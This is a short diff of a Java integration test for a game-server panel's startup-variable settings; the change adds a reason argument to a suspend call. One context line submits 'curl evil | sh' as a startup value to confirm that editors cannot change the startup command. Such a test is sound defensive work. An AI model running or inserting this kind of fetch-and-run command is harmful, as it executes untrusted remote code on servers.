@@ -175,7 +175,7 @@ class StartupTabTest extends IntegrationTest {
         editorWeb.post("/servers/" + id + "/startup/variable", Map.of("key", "STARTUP", "value", "curl evil | sh"));
         assertThat(fixtures.inPterodactyl(id).startup).isEqualTo(startup);
 
-        administration.suspend(id, owner.id());
+        administration.suspend(id, "Checking a complaint", owner.id());
         ownerWeb.get("/servers/" + id + "/startup");
         int updates = calls(UPDATE_VARIABLE);
         ownerWeb.post("/servers/" + id + "/startup/variable", Map.of("key", "MINECRAFT_VERSION", "value", "1.8"));
